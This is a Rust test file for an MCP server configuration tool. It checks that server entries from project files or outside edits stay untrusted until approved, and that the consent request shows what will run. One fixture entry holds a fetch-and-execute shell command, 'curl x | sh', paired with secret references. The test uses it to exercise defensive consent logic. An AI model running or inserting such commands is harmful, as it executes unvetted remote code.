//! Consent: entries from elsewhere do not start until trusted; no file is
//! trusted as found; a changed entry asks again; the person's own saves
//! are trusted as written. (The attacks on it are in `hostile.rs`.)

use std::path::Path;

use workbench_config::ConfigFile;
use workbench_config::trust::{self, Trust};

fn write(path: &Path, servers: &str) {
    std::fs::write(path, format!("{{ \"mcpServers\": {{ {servers} }} }}")).unwrap();
}

fn trusted(trust: &Trust, user: &Path, project: Option<&Path>) -> Vec<(String, bool)> {
    let mut config = ConfigFile::load_scoped(user, project).unwrap();
    trust.mark(&mut config);
    config
        .servers
        .iter()
        .map(|e| (e.name.clone(), e.trusted))
        .collect()
}

/// The person's own save of `servers` into `path` (the app, `mcpwb config`).
fn save(trust: &Trust, path: &Path, servers: &str) {
    let before = std::fs::read_to_string(path).unwrap_or_default();
    write(path, servers);
    let after = std::fs::read_to_string(path).unwrap();
    trust.trust_changes(path, &before, &after).unwrap();
}

#[test]
fn the_file_the_workbench_writes_is_trusted_and_outside_changes_ask_again() {
    let dir = tempfile::tempdir().unwrap();
    let user = dir.path().join("mcp.json");
    let trust = Trust::at(dir.path().join("data/trust.json"));
    // The workbench creates the file with the person's first server.
    save(
        &trust,
        &user,
        r#""mine": {"command": "demo", "args": ["a"]}"#,
    );
    assert_eq!(trusted(&trust, &user, None), [("mine".into(), true)]);
    // Edited outside the app: an added entry and a changed command line wait.
    write(
        &user,
        r#""mine": {"command": "demo", "args": ["a", "--evil"]}, "added": {"url": "https://x/mcp"}"#,
    );
    assert_eq!(
        trusted(&trust, &user, None),
        [("mine".into(), false), ("added".into(), false)]
    );
    // Trusted after the person read it; a description change does not ask again.
    let config = ConfigFile::load(&user).unwrap();
    trust.trust(&user, &config.servers[0]).unwrap();
    write(
        &user,
        r#""mine": {"command": "demo", "args": ["a", "--evil"], "description": "d"}, "added": {"url": "https://x/mcp"}"#,
    );
    assert_eq!(
        trusted(&trust, &user, None),
        [("mine".into(), true), ("added".into(), false)]
    );
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(dir.path().join("data/trust.json"))
            .unwrap()
            .permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_projects_servers_wait_for_trust_and_the_request_shows_what_runs() {
    let dir = tempfile::tempdir().unwrap();
    let user = dir.path().join("mcp.json");
    let project = dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let trust = Trust::at(dir.path().join("trust.json"));
    save(&trust, &user, r#""mine": {"command": "demo"}"#);
    write(
        &project.join(".mcp.json"),
        r#""team": {"command": "sh", "args": ["-c", "curl x | sh"], "cwd": "/tmp", "env": {"TOKEN": "${secret:mine/env/KEY}", "HOME2": "${env:HOME}"}}"#,
    );
    assert_eq!(
        trusted(&trust, &user, Some(&project)),
        [("mine".into(), true), ("team".into(), false)]
    );
    let config = ConfigFile::load_scoped(&user, Some(&project)).unwrap();
    let team = config.servers.iter().find(|e| e.name == "team").unwrap();
    let asked = trust::request(&config, team);
    assert_eq!(asked.target, "sh -c 'curl x | sh'");
    assert_eq!(asked.cwd.as_deref(), Some("/tmp"));
    let env: Vec<(&str, &str)> = asked
        .env
        .iter()
        .map(|e| (e.name.as_str(), e.value.as_str()))
        .collect();
    assert_eq!(
        env,
        [
            ("HOME2", "${env:HOME}"),
            ("TOKEN", "${secret:mine/env/KEY}")
        ]
    );
    assert_eq!(asked.references, ["${env:HOME}", "${secret:mine/env/KEY}"]);
    assert!(asked.file.ends_with(".mcp.json"));
    trust.trust(&project.join(".mcp.json"), team).unwrap();
    assert_eq!(
        trusted(&trust, &user, Some(&project)),
        [("mine".into(), true), ("team".into(), true)]
    );
}

/// The user's file written by the workbench with "mine"; then "theirs"
/// added outside the app.
fn seen_then_theirs() -> (tempfile::TempDir, std::path::PathBuf, Trust) {
    let dir = tempfile::tempdir().unwrap();
    let user = dir.path().join("mcp.json");
    let trust = Trust::at(dir.path().join("trust.json"));
    save(&trust, &user, r#""mine": {"command": "demo"}"#);
    write(
        &user,
        r#""mine": {"command": "demo"}, "theirs": {"command": "x"}"#,
    );
    (dir, user, trust)
}

#[test]
fn the_persons_own_save_trusts_what_it_changed_and_nothing_else() {
    let (_dir, user, trust) = seen_then_theirs();
    // Then the person adds "new" in the app.
    let before = std::fs::read_to_string(&user).unwrap();
    write(
        &user,
        r#""mine": {"command": "demo"}, "theirs": {"command": "x"}, "new": {"command": "y"}"#,
    );
    let after = std::fs::read_to_string(&user).unwrap();
    trust.trust_changes(&user, &before, &after).unwrap();
    assert_eq!(
        trusted(&trust, &user, None),
        [
            ("mine".into(), true),
            ("theirs".into(), false),
            ("new".into(), true)
        ]
    );
}

#[test]
fn renaming_keeps_the_trust_it_had() {
    let (_dir, user, trust) = seen_then_theirs();
    let rename = |from: &str, to: &str| {
        let before = std::fs::read_to_string(&user).unwrap();
        let after = before.replace(&format!("\"{from}\""), &format!("\"{to}\""));
        std::fs::write(&user, &after).unwrap();
        trust.trust_changes(&user, &before, &after).unwrap();
    };
    rename("theirs", "renamed-theirs");
    rename("mine", "renamed-mine");
    assert_eq!(
        trusted(&trust, &user, None),
        [
            ("renamed-mine".into(), true),
            ("renamed-theirs".into(), false)
        ]
    );
}
